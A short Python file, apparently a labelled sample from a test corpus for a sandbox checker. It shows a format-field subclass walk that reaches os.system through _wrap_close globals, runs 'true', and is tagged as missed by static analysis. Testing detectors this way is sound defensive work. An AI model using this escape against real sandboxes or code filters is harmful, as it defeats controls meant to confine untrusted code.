# family: format_fields
# reaches: process
# layer: static
# static: missed
# The classic subclass walk, every step a format field.
import string



def field(*attrs):
    return "0" + "".join("." + a for a in attrs)


fmt = string.Formatter()
walk, _ = fmt.get_field(field("__class__", "__base__", "__subclasses__"), (0,), {})
for cls in walk():
    if cls.__name__ == "_wrap_close":
        system, _ = fmt.get_field(field("__init__", "__globals__[system]"), (cls,), {})
        system("true")
        break
